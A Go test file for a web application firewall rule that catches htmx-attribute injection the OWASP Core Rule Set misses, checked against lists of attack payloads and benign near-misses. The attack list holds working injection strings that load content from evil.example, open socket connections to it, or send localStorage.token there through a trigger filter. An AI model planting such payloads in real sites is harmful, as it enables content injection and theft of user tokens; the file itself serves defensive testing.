package waf

import (
	"net/url"
	"testing"
)

// htmxAttacks are a fifteenth fresh-eyes attack's (attack 19) htmx
// attributes in a tag, which the CRS alone passes (rule 210122).
var htmxAttacks = []string{
	`<div hx-get="https://evil.example/x" hx-trigger="load" hx-swap="outerHTML"></div>`,
	`<span data-hx-get="https://evil.example/x" data-hx-trigger="load">`,
	`<div class="card" hx-put="//evil.example/x" hx-trigger="load">`,
	`<p/hx-patch="https://evil.example/x" hx-trigger="load">`, `<div HX-GET='HTTPS://evil.example/x' hx-trigger=load>`, `<a href="#"hx-get="//evil.example">`,
	`<div hx-on::after-request="x()">`, `<div hx-post = " https://evil.example/x">`,
	`<section hx-delete="\\evil.example/x" hx-trigger="load">`, `<div hx-on--load="x()">`, `<div hx-vals='js:{a: 1}'>`,
	`<div data-hx-on:click="x()">`,
	// attack 20's: htmx 1.x's server-sent events and web sockets, the
	// extensions' connections
	`<div hx-sse="connect:https://evil.example/x">`, `<div hx-ws="connect:wss://evil.example">`,
	`<div hx-ext="ws" ws-connect="wss://evil.example/x">`, `<div hx-ext="sse" sse-connect="https://evil.example/x" sse-swap="m">`,
	// attack 21's: character references and a tab in the URL, a trigger
	// filter (JavaScript htmx evaluates)
	`<div hx-get="https&#58;//evil.example/x" hx-trigger="load"></div>`, `<div hx-get="https&colon;//evil.example/x" hx-trigger="load"></div>`,
	`<div hx-get="&#47;/evil.example/x" hx-trigger="load"></div>`, `<div hx-get="&#x2F;&#x2F;evil.example/x" hx-trigger="load"></div>`,
	`<div hx-get="&sol;&sol;evil.example/x" hx-trigger="load"></div>`, `<div hx-get="/&#9;/evil.example/x" hx-trigger="load"></div>`,
	`<div hx-get="/&NewLine;/evil.example/x" hx-trigger="load"></div>`, "<div hx-get=\"/\t/evil.example/x\" hx-trigger=\"load\"></div>",
	`<div hx-get="/x" hx-trigger="load[new Image().src='//evil.example/?'+localStorage.token]"></div>`,
}

// htmxCRSCatches are htmx payloads the CRS alone refuses already (an
// <img> with an attribute, fetch( and document.cookie in a value).
var htmxCRSCatches = []string{
	`<img src=x hx-delete="/api/account" hx-trigger="load">`, `<div hx-on:htmx:load="fetch('/x')">`,
	`<div hx-on="htmx:load: fetch('/x')">`, `<div hx-vals="js:{a: document.cookie}" hx-post="/x">`,
	`<div hx-headers="javascript:{a: document.cookie}">`,
}

// htmxBenign are near-misses: prose naming the attributes, classes
// named so, htmx's other attributes, hx-include.
var htmxBenign = []string{
	"use hx-get for that", `hx-post="/x" sends a POST`, `<div class="hx-get">`, `<div class="x hx-get">hello</div>`,
	`<div hx-swap="outerHTML">`, `<div hx-target="#list">`, `<div hx-include="#form">`, "hx-on:click runs code",
	`<code>hx-get</code> loads a fragment`, "<b>hx-get=</b>", "the hx-getter and hx-poster classes", `<div id="hx-get-demo">`,
	// attack 20's false positives: markup with the site's own paths in a
	// forum question, a Markdown fence, a site builder's page; htmx 2's
	// same-origin request is left to the application (not refused)
	`How do I reload just the table? I have <button hx-get="/contacts/table" hx-target="#table" hx-swap="outerHTML">Reload</button>`,
	"```html\n<tr hx-delete=\"/rows/3\" hx-confirm=\"Sure?\">\n```", `<div hx-post="/newsletter" hx-swap="outerHTML">Subscribe</div>`,
	`<div hx-post="/admin/users/1/delete" hx-trigger="load">`, `<div hx-get="contacts?page=2">`,
	`<input hx-get="/search" hx-trigger="keyup changed delay:500ms" name="q">`, `<div hx-get="/items?page=2&amp;sort=name">`,
}

// TestHTMXBeyondTheCRS: rule 210122 refuses htmxAttacks in the query and
// in JSON, which the CRS alone passes, and no near-miss.
func TestHTMXBeyondTheCRS(t *testing.T) {
	tableOnly(t)
	var catches, misses, benign []probe
	for _, s := range htmxCRSCatches {
		catches = append(catches, probe{name: "query " + s, method: "GET", path: "/?bio=" + url.QueryEscape(s)})
	}
	for _, s := range htmxAttacks {
		misses = append(misses,
			probe{name: "query " + s, method: "GET", path: "/?bio=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/profile", contentType: "application/json", body: jsonString("bio", s)})
	}
	for _, s := range htmxBenign {
		benign = append(benign,
			probe{name: "query " + s, method: "GET", path: "/api/notes?q=" + url.QueryEscape(s)},
			probe{name: "JSON " + s, method: "POST", path: "/api/notes", contentType: "application/json", body: jsonString("v", s)})
	}
	runBeyondTheCRS(t, catches, misses, benign)
}
